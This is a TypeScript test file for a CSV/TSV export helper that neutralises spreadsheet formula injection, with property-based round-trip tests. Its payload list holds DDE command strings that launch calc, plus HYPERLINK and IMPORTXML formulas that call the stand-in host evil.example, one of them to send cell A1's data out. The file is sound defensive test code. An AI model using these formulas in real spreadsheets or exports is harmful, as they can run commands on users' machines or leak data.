import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { csvLine, defused, tsvLine } from '../../../shared/domain/table-text'

const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹢', '﹣', '﹦', '﹫', '−']
const BEFORE = [
  '',
  ' ',
  '   ',
  '\t',
  '\r',
  '\n',
  '\u0000',
  '\u00a0',
  '\u200b',
  '\ufeff',
  '\u202e',
  '\u3000',
  '"',
  "'",
]
const BODIES = [
  'cmd|"/c calc"!A1',
  'HYPERLINK("http://evil.example?x="&A1,"click")',
  'SUM(1+1)*cmd|" /C calc"!A0',
  'IMPORTXML("http://evil.example","//a")',
]
const PAYLOADS = [
  ...SIGNS.flatMap((sign) =>
    BEFORE.map((before, place) => `${before}${sign}${BODIES[place % BODIES.length]}`),
  ),
  ...['\tx', '\rx', '\nx', '\u0000x'],
]

/** One cell through a file and back, by a reader that is not ours. */
function roundTrip(cells: readonly (string | number | undefined)[]): string[] {
  const records: string[][] = parse(csvLine(cells))
  return records[0] ?? []
}

describe('a table as text', () => {
  it('is tried with more than a hundred formulas', () => {
    expect(PAYLOADS.length).toBeGreaterThan(100)
  })

  it.each(PAYLOADS)('gives %j to a spreadsheet as text', (payload) => {
    expect(defused(payload)).toBe(`'${payload}`)
    expect(roundTrip(['a', payload, 'b'])).toEqual(['a', `'${payload}`, 'b'])
    expect(tsvLine([payload]).startsWith("'")).toBe(true)
  })

  it('leaves alone what is no formula', () => {
    const plain = ['ada@acme.io', 'Ada - Byron', 'O’Neil', 'a=b', '100 %', '', 'Žižek', '東京', 'x\ty']
    expect(plain.map(defused)).toEqual(plain)
  })

  it('gives numbers as numbers, negative ones too', () => {
    expect(csvLine([-5, 0, 1.5, undefined])).toBe('-5,0,1.5,\r\n')
  })

  it('is read back as it was by another reader, whatever the text', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 2, maxLength: 8 }), (cells) => {
        expect(roundTrip(cells)).toEqual(cells.map(defused))
      }),
    )
  })

  it('for the clipboard has one line a row and one tab between two cells, whatever the text', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 8 }), (cells) => {
        const line = tsvLine(cells)
        expect(line.split('\t')).toHaveLength(cells.length)
        expect(line).not.toMatch(/[\r\n]/)
      }),
    )
  })
})
